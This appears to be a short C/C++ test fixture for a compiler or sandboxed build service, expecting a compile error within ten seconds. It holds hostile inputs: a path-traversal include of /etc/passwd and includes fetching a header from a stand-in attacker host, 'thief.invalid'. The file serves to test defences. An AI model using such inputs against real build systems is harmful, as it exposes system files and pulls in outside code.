// expect: compile-error "file not found" or compile-error "" within 10s
#include "../../../../../../etc/passwd"
#include "http://thief.invalid/x.hpp"
#include "//thief.invalid/x.hpp"

int main() {}
